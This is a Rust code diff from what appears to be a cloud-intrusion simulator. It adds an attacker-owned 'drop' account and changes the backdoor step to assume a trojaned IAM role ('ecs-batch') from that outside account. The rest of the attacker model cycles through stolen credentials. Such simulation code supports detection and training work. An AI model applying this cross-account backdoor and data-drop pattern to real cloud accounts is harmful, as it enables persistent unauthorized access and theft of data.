@@ -28,6 +28,9 @@ const OWN_FUNCTION: &str = "metrics-sync";
 /// The role whose trust the attacker changes.
 const BACKDOOR: &str = "ecs-batch";
 
+/// The attacker's own account, which data is shared with.
+const DROP_ACCOUNT: &str = "444455556666";
+
 /// The credentials in the attacker's hands, each of which is tried in turn.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
 enum Loot {
@@ -59,6 +62,8 @@ pub(super) struct Attacker {
     user_session: Option<Means>,
     role_session: Option<Means>,
     own_user: Option<Means>,
+    /// A user of the account that data is taken to.
+    own_account: Means,
     /// The id of the attacker's instance in the far Region.
     instance: Option<String>,
     /// What did not work when it was last tried.
@@ -76,6 +81,7 @@ impl Attacker {
     ) -> anyhow::Result<Self> {
         Ok(Self {
             key: Means::new(aws_url, stolen, ORIGIN)?,
+            own_account: Means::new(aws_url, account.outsider(DROP_ACCOUNT, "mallory"), ORIGIN)?,
             aws_url: aws_url.to_owned(),
             account: account.clone(),
             clock,
@@ -133,10 +139,7 @@ impl Attacker {
                 Some(function) => self.list_roles(&format!("{OWN_FUNCTION}$ "), &function).await,
                 None => self.gone(&format!("{OWN_FUNCTION}$ aws iam list-roles"), "nothing runs at the function's address"),
             },
-            Loot::Backdoor => match &self.own_user {
-                Some(user) => self.assume_role(&format!("{OWN_USER}$ "), user, BACKDOOR).await.is_some(),
-                None => false,
-            },
+            Loot::Backdoor => self.assume_role("elsewhere$ ", &self.own_account, BACKDOOR).await.is_some(),
         };
         self.dead.retain(|loot| *loot != tried);
         if !works {
